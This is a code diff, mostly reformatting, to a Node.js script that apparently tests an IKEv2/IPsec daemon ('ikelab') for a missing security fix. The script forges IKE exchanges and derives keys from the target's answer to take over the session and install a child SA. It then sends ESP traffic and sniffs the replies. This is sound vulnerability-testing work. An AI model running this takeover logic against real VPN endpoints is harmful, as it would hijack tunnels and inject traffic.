@@ -64,11 +64,15 @@ const spiR = Buffer.from(need('spi-r'), 'hex');
 const role = need('role'); // ikelab's role
 if (role !== 'initiator' && role !== 'responder') throw new Error('--role initiator|responder');
 const port = Number(args.port ?? 4500);
-const mids = String(args.mids ?? '0').split(',').map(Number);
+const mids = String(args.mids ?? '0')
+  .split(',')
+  .map(Number);
 const listenMs = Math.min(Number(args['listen-ms'] ?? 1000), 10_000);
 const count = Math.min(Number(args.count ?? 100), 100_000);
 const spreadMs = Math.min(Number(args['spread-ms'] ?? 1000), 30_000);
-const exchanges = String(args.exchanges ?? '35').split(',').map(Number);
+const exchanges = String(args.exchanges ?? '35')
+  .split(',')
+  .map(Number);
 const ikeProposal = args['ike-proposal'] ?? 'aes256-sha256-modp2048';
 const espProposal = args['esp-proposal'] ?? 'aes256-sha256-modp2048';
 const tsI = args['ts-i'] ?? '10.11.0.0/24'; // the peer's (attacker's) side
@@ -81,7 +85,7 @@ const PEER_I = role === 'responder' ? 0x08 : 0x00;
 const R = 0x20;
 
 const imp = (rel) => import(pathToFileURL(path.join(dist, rel)).href);
-const { decodeMessage, decodePayloads, encodeMessage, encodePayloads, encodeSkPrefix } = await imp('wire/message.js');
+const { decodeMessage, decodePayloads, encodePayloads, encodeSkPrefix } = await imp('wire/message.js');
 const { payloadName, charonExchangeName, notifyName } = await imp('wire/names.js');
 const { generateDh } = await imp('crypto/dh.js');
 const { deriveIkeKeys, deriveChildKeys, isAead } = await imp('crypto/keys.js');
@@ -180,7 +184,13 @@ function startSniffer() {
       for (const w of [...waiters]) if (w.pred(pkt)) w.done(pkt);
     }
   });
-  return { ready: readyP, stop: () => { py.stdin.end(); py.kill('SIGKILL'); } };
+  return {
+    ready: readyP,
+    stop: () => {
+      py.stdin.end();
+      py.kill('SIGKILL');
+    },
+  };
 }
 
 /** The first sniffed datagram (already seen or arriving within ms) matching pred, else undefined. */
@@ -215,7 +225,13 @@ await new Promise((res, rej) => {
 });
 sock.on('message', () => {}); // answers to us are also sniffed; keep the socket open so no ICMP unreachable goes out
 let sent = 0;
-const sendRaw = (data, p) => new Promise((res) => sock.send(data, p, target, (err) => { if (!err) sent++; res(); }));
+const sendRaw = (data, p) =>
+  new Promise((res) =>
+    sock.send(data, p, target, (err) => {
+      if (!err) sent++;
+      res();
+    }),
+  );
 const sendIke = (msg) => sendRaw(port === 4500 ? Buffer.concat([Buffer.alloc(4), msg]) : msg, port);
 const sendEsp = (esp) => sendRaw(esp, 4500);
 
@@ -251,13 +267,31 @@ const transformOf = (p, type) => p.transforms.find((t) => t.type === type);
 function suiteOf(p) {
   const encr = transformOf(p, 1);
   const integ = transformOf(p, 3);
-  return { encr: encr.id, encrKeyBits: encr.keyLength, integ: isAead(encr.id) ? undefined : integ?.id, prf: transformOf(p, 2)?.id, dh: transformOf(p, 4)?.id ?? 0 };
+  return {
+    encr: encr.id,
+    encrKeyBits: encr.keyLength,
+    integ: isAead(encr.id) ? undefined : integ?.id,
+    prf: transformOf(p, 2)?.id,
+    dh: transformOf(p, 4)?.id ?? 0,
+  };
 }
 
 // ---------------------------------------------------------------------------------------------------------------
 // attacks
 
-const report = { attack, role, mids, port, sent: 0, snifferOk: false, answers: [], toAttacker: [], packets: [], takeover: undefined, errors: [] };
+const report = {
+  attack,
+  role,
+  mids,
+  port,
+  sent: 0,
+  snifferOk: false,
+  answers: [],
+  toAttacker: [],
+  packets: [],
+  takeover: undefined,
+  errors: [],
+};
 const summary = (p) => {
   const { raw, ...rest } = p;
   return rest;
@@ -294,7 +328,14 @@ async function initFull() {
   const ans = await waitFor((p) => p.kind === 'ike' && p.ike.exchange === X.IKE_SA_INIT && p.ike.response, listenMs);
   if (!ans) return;
   // The fix is missing: continue the takeover with keys derived from the answer.
-  const tk = (report.takeover = { initAnswered: true, answer: summary(ans), childAnswered: false, childInstalled: false, espSent: 0, espAnswered: false });
+  const tk = (report.takeover = {
+    initAnswered: true,
+    answer: summary(ans),
+    childAnswered: false,
+    childInstalled: false,
+    espSent: 0,
+    espAnswered: false,
+  });
   const m = decodeMessage(ans.raw);
   if (!m.ok) return void (tk.stoppedAt = `answer does not decode: ${m.error.message}`);
   const find = (list, t) => list.find((x) => x.type === t);
@@ -327,11 +368,24 @@ async function initFull() {
     { type: T.TSr, selectors: [cidr(tsR)] },
   ]);
   const cmid = h.messageId + 1;
-  const hdr = { spiI: h.spiI, spiR: h.spiR, majorVersion: 2, minorVersion: 0, exchange: X.CREATE_CHILD_SA, initiator: PEER_I !== 0, response: false, version: false, messageId: cmid };
+  const hdr = {
+    spiI: h.spiI,
+    spiR: h.spiR,
+    majorVersion: 2,
+    minorVersion: 0,
+    exchange: X.CREATE_CHILD_SA,
+    initiator: PEER_I !== 0,
+    response: false,
+    version: false,
+    messageId: cmid,
+  };
   const prefix = encodeSkPrefix(hdr, inner.firstType, out.bodyLength(inner.bytes.length));
   await sendIke(Buffer.concat([prefix, out.seal(inner.bytes, prefix)]));
   tk.childSent = true;
-  const cans = await waitFor((p) => p.kind === 'ike' && p.ike.exchange === X.CREATE_CHILD_SA && p.ike.response && p.ike.mid === cmid, listenMs);
+  const cans = await waitFor(
+    (p) => p.kind === 'ike' && p.ike.exchange === X.CREATE_CHILD_SA && p.ike.response && p.ike.mid === cmid,
+    listenMs,
+  );
   if (!cans) return void (tk.stoppedAt = 'no CREATE_CHILD_SA response');
   tk.childAnswered = true;
   const cm = decodeMessage(cans.raw);
@@ -354,7 +408,14 @@ async function initFull() {
   const chosen = csa.proposals[0];
   tk.ikelabChildSpi = chosen.spi.toString('hex');
   const cs = suiteOf(chosen);
-  const ck = deriveChildKeys(suite.prf, keys.skD, { encr: cs.encr, encrKeyBits: cs.encrKeyBits, integ: cs.integ }, cni, cnr.data, cdh && cke ? cdh.computeSecret(cke.data) : undefined);
+  const ck = deriveChildKeys(
+    suite.prf,
+    keys.skD,
+    { encr: cs.encr, encrKeyBits: cs.encrKeyBits, integ: cs.integ },
+    cni,
+    cnr.data,
+    cdh && cke ? cdh.computeSecret(cke.data) : undefined,
+  );
   const esn = transformOf(chosen, 5)?.id === 1;
   const common = { encr: cs.encr, encrKeyBits: cs.encrKeyBits, integ: cs.integ, esn, replayWindow: 64 };
   const espOut = new EspOutbound({ ...common, spi: chosen.spi, encKey: ck.encrI, integKey: ck.integI });
@@ -413,7 +474,12 @@ try {
   report.toAttacker = pkts.filter((p) => p.dstAddr === bindAddr && p.kind !== 'icmp').map(summary);
   report.answers = pkts
     .filter((p) => p.kind === 'ike')
-    .filter((p) => p.dstAddr === bindAddr || p.ike.exchange === X.IKE_SA_INIT || (p.ike.response && (attack === 'wrong-exchange' || mids.includes(p.ike.mid))))
+    .filter(
+      (p) =>
+        p.dstAddr === bindAddr ||
+        p.ike.exchange === X.IKE_SA_INIT ||
+        (p.ike.response && (attack === 'wrong-exchange' || mids.includes(p.ike.mid))),
+    )
     .map(summary);
   // Canary: an empty answer list means something only if the sniffer sees the target at all. A datagram to a
   // closed port on the target makes its kernel send ICMP port unreachable, which the sniffer must see.
@@ -422,7 +488,7 @@ try {
   await new Promise((res) => sock.send(Buffer.from('canary'), 9, target, res));
   report.snifferOk = !!(await waitFor((p) => p.kind === 'icmp' && p.at >= canaryFrom && p.dstAddr === bindAddr, 1000));
 } catch (e) {
-  report.errors.push(e instanceof Error ? e.stack ?? e.message : String(e));
+  report.errors.push(e instanceof Error ? (e.stack ?? e.message) : String(e));
 } finally {
   sniffer.stop();
   sock.close();
